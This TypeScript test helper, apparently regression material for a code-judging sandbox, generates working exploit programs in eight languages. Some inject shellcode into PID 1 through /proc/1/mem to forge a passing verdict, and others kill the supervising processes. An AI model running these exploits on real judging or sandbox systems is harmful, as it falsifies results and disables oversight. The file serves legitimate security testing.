/**
 * The red team's verdict forgery, as real programs in all eight languages.
 *
 * Each program reads the instruction pointer of PID 1 from /proc/1/syscall (where it is blocked
 * in a syscall), writes x86-64 code there through /proc/1/mem, then burns CPU until it is killed.
 * When PID 1 wakes up it runs that code: it writes an output frame carrying the expected answer
 * and a report `exited 0, cpu_ms 1, limit none` to its fd 1, then exits. Before the fix PID 1 was
 * bwrap's init (dumpable, same uid, holding the frame socket) and the host took the last report
 * whoever wrote it, so a program that ran past its limit scored 100 with `time_ms 1`.
 */
import type { LanguageId } from '../../../src/judging/program/languages';

/** The forged report, in the supervisor's own words. */
export const FORGED_REPORT = 'status exited code 0 signal 0 cpu_ms 1 wall_ms 1 maxrss_kb 1000 limit none';

function frame(kind: string, data: Buffer): Buffer {
  const head = Buffer.alloc(5);
  head.write(kind, 0, 'latin1');
  head.writeUInt32BE(data.length, 1);
  return Buffer.concat([head, data]);
}

/** The frames a forger wants the host to read: the answer, then a clean report. */
export function forgedFrames(answer: string): Buffer {
  return Buffer.concat([frame('O', Buffer.from(answer)), frame('R', Buffer.from(FORGED_REPORT))]);
}

/**
 * x86-64: write(1, data, len); exit_group(0); followed by the data. 33 bytes of code; the lea's
 * displacement (0x1a) points just past it.
 */
export function injectedCode(answer: string): string {
  const data = forgedFrames(answer);
  const length = Buffer.alloc(4);
  length.writeUInt32LE(data.length);
  const code = Buffer.concat([
    Buffer.from([0x48, 0x8d, 0x35, 0x1a, 0x00, 0x00, 0x00]), // lea rsi, [rip+0x1a]
    Buffer.from([0xba]),
    length, // mov edx, len
    Buffer.from([0xbf, 0x01, 0x00, 0x00, 0x00]), // mov edi, 1
    Buffer.from([0xb8, 0x01, 0x00, 0x00, 0x00]), // mov eax, 1 (write)
    Buffer.from([0x0f, 0x05]), // syscall
    Buffer.from([0xb8, 0xe7, 0x00, 0x00, 0x00]), // mov eax, 231 (exit_group)
    Buffer.from([0x31, 0xff]), // xor edi, edi
    Buffer.from([0x0f, 0x05]), // syscall
  ]);
  if (code.length !== 33) throw new Error(`injected code is ${code.length} bytes`);
  return Buffer.concat([code, data]).toString('hex');
}

/** The forging program in each language: inject into PID 1, then burn CPU until killed. */
export function forgerSource(language: LanguageId, answer: string): { path: string; content: string } {
  const hex = injectedCode(answer);
  const js = `const fs = require('fs');
const HEX = '${hex}';
try {
  const fields = fs.readFileSync('/proc/1/syscall', 'utf8').trim().split(/\\s+/);
  const pc = Number(BigInt(fields[fields.length - 1]));
  const fd = fs.openSync('/proc/1/mem', 'r+');
  fs.writeSync(fd, Buffer.from(HEX, 'hex'), 0, HEX.length / 2, pc);
} catch (e) {}
let x = 0;
for (;;) x++;
`;
  switch (language) {
    case 'c':
    case 'cpp':
      return {
        path: language === 'c' ? 'main.c' : 'main.cpp',
        content: `#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
static const char *HEX = "${hex}";
int main(void) {
  char buf[512] = {0};
  int fd = open("/proc/1/syscall", O_RDONLY);
  if (fd >= 0) { if (read(fd, buf, sizeof buf - 1) < 0) buf[0] = 0; close(fd); }
  char *last = strrchr(buf, ' ');
  unsigned long pc = last ? strtoul(last + 1, 0, 16) : 0;
  size_t n = strlen(HEX) / 2;
  unsigned char *p = (unsigned char *)malloc(n);
  for (size_t i = 0; i < n; i++) { unsigned v; sscanf(HEX + 2 * i, "%2x", &v); p[i] = (unsigned char)v; }
  int mem = open("/proc/1/mem", O_RDWR);
  if (mem >= 0 && pc) { if (pwrite(mem, p, n, (off_t)pc) < 0) pc = 0; }
  for (volatile unsigned long i = 0;; i++) {}
}
`,
      };
    case 'python':
      return {
        path: 'main.py',
        content: `import os
HEX = '${hex}'
try:
    pc = int(open('/proc/1/syscall').read().split()[-1], 16)
    fd = os.open('/proc/1/mem', os.O_RDWR)
    os.pwrite(fd, bytes.fromhex(HEX), pc)
except Exception:
    pass
x = 0
while True:
    x += 1
`,
      };
    case 'go':
      return {
        path: 'main.go',
        content: `package main

import (
	"encoding/hex"
	"os"
	"strconv"
	"strings"
)

const HEX = "${hex}"

func main() {
	b, _ := os.ReadFile("/proc/1/syscall")
	f := strings.Fields(string(b))
	if len(f) > 0 {
		pc, _ := strconv.ParseUint(strings.TrimPrefix(f[len(f)-1], "0x"), 16, 64)
		p, _ := hex.DecodeString(HEX)
		if m, err := os.OpenFile("/proc/1/mem", os.O_RDWR, 0); err == nil {
			m.WriteAt(p, int64(pc))
		}
	}
	x := 0
	for {
		x++
	}
}
`,
      };
    case 'rust':
      return {
        path: 'main.rs',
        content: `use std::fs::OpenOptions;
use std::io::{Seek, SeekFrom, Write};
const HEX: &str = "${hex}";
fn main() {
    let s = std::fs::read_to_string("/proc/1/syscall").unwrap_or_default();
    if let Some(last) = s.split_whitespace().last() {
        if let Ok(pc) = u64::from_str_radix(last.trim_start_matches("0x"), 16) {
            let p: Vec<u8> = (0..HEX.len() / 2).map(|i| u8::from_str_radix(&HEX[2 * i..2 * i + 2], 16).unwrap()).collect();
            if let Ok(mut m) = OpenOptions::new().read(true).write(true).open("/proc/1/mem") {
                let _ = m.seek(SeekFrom::Start(pc));
                let _ = m.write_all(&p);
            }
        }
    }
    let mut x: u64 = 0;
    loop {
        unsafe { std::ptr::write_volatile(&mut x, std::ptr::read_volatile(&x).wrapping_add(1)) };
    }
}
`,
      };
    case 'java':
      return {
        path: 'Main.java',
        content: `import java.io.RandomAccessFile;
import java.nio.file.Files;
import java.nio.file.Paths;
public class Main {
  static final String HEX = "${hex}";
  public static void main(String[] args) {
    try {
      String[] f = new String(Files.readAllBytes(Paths.get("/proc/1/syscall"))).trim().split("\\\\s+");
      long pc = Long.parseUnsignedLong(f[f.length - 1].replace("0x", ""), 16);
      byte[] p = new byte[HEX.length() / 2];
      for (int i = 0; i < p.length; i++) p[i] = (byte) Integer.parseInt(HEX.substring(2 * i, 2 * i + 2), 16);
      try (RandomAccessFile m = new RandomAccessFile("/proc/1/mem", "rw")) { m.seek(pc); m.write(p); }
    } catch (Throwable t) {}
    long x = 0;
    while (true) { x++; if (x == Long.MIN_VALUE) System.out.print(""); }
  }
}
`,
      };
    case 'javascript':
      return { path: 'main.js', content: js };
    case 'typescript':
      return { path: 'main.ts', content: `declare const require: (name: string) => any;\n${js}` };
  }
}

/**
 * The other half of the attack: stop and kill every other process it can name (the supervisor
 * was PID 2 under bwrap's init; it is PID 1 now), then answer correctly. Its own threads are
 * skipped (a kill of a thread id stops the whole process). Judged as usual only if nothing that
 * reports can be signalled.
 */
export function signallerSource(language: LanguageId): { path: string; content: string } {
  const js = `const fs = require('fs');
const own = new Set(fs.readdirSync('/proc/self/task').map(Number));
const line = fs.readFileSync(0, 'utf8');
for (let pid = 1; pid < 64; pid++) {
  if (own.has(pid)) continue;
  for (const signal of ['SIGSTOP', 'SIGKILL']) {
    try { process.kill(pid, signal); } catch (e) {}
  }
}
process.stdout.write(line);
`;
  switch (language) {
    case 'c':
    case 'cpp':
      return {
        path: language === 'c' ? 'main.c' : 'main.cpp',
        content: `#include <dirent.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>
static int own(int pid) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/task/%d", pid);
  return access(path, F_OK) == 0;
}
int main(void) {
  char line[256];
  if (!fgets(line, sizeof line, stdin)) return 1;
  for (int pid = 1; pid < 64; pid++) {
    if (own(pid)) continue;
    kill(pid, SIGSTOP);
    kill(pid, SIGKILL);
  }
  fputs(line, stdout);
  return 0;
}
`,
      };
    case 'python':
      return {
        path: 'main.py',
        content: `import os, signal, sys
own = set(int(t) for t in os.listdir('/proc/self/task'))
line = sys.stdin.readline()
for pid in range(1, 64):
    if pid in own:
        continue
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
        except OSError:
            pass
sys.stdout.write(line)
`,
      };
    case 'go':
      return {
        path: 'main.go',
        content: `package main

import (
	"bufio"
	"fmt"
	"os"
	"strconv"
	"syscall"
)

func main() {
	line, _ := bufio.NewReader(os.Stdin).ReadString('\\n')
	own := map[int]bool{}
	entries, _ := os.ReadDir("/proc/self/task")
	for _, e := range entries {
		if n, err := strconv.Atoi(e.Name()); err == nil {
			own[n] = true
		}
	}
	for pid := 1; pid < 64; pid++ {
		if own[pid] {
			continue
		}
		syscall.Kill(pid, syscall.SIGSTOP)
		syscall.Kill(pid, syscall.SIGKILL)
	}
	fmt.Print(line)
}
`,
      };
    case 'rust':
      return {
        path: 'main.rs',
        content: `use std::io::Read;
extern "C" {
    fn kill(pid: i32, sig: i32) -> i32;
}
fn main() {
    let mut line = String::new();
    std::io::stdin().read_to_string(&mut line).unwrap();
    let own: Vec<i32> = std::fs::read_dir("/proc/self/task")
        .map(|d| d.filter_map(|e| e.ok()?.file_name().to_str()?.parse().ok()).collect())
        .unwrap_or_default();
    for pid in 1..64 {
        if own.contains(&pid) {
            continue;
        }
        unsafe {
            kill(pid, 19);
            kill(pid, 9);
        }
    }
    print!("{}", line);
}
`,
      };
    case 'java':
      return {
        path: 'Main.java',
        content: `import java.io.File;
import java.util.HashSet;
import java.util.Scanner;
import java.util.Set;
public class Main {
  public static void main(String[] args) {
    String line = new Scanner(System.in).nextLine();
    Set<Long> own = new HashSet<>();
    for (String t : new File("/proc/self/task").list()) own.add(Long.parseLong(t));
    for (long pid = 1; pid < 64; pid++) {
      if (own.contains(pid)) continue;
      ProcessHandle.of(pid).ifPresent(ProcessHandle::destroyForcibly);
    }
    System.out.println(line);
  }
}
`,
      };
    case 'javascript':
      return { path: 'main.js', content: js };
    case 'typescript':
      return {
        path: 'main.ts',
        content: `declare const require: (name: string) => any;\ndeclare const process: any;\n${js}`,
      };
  }
}
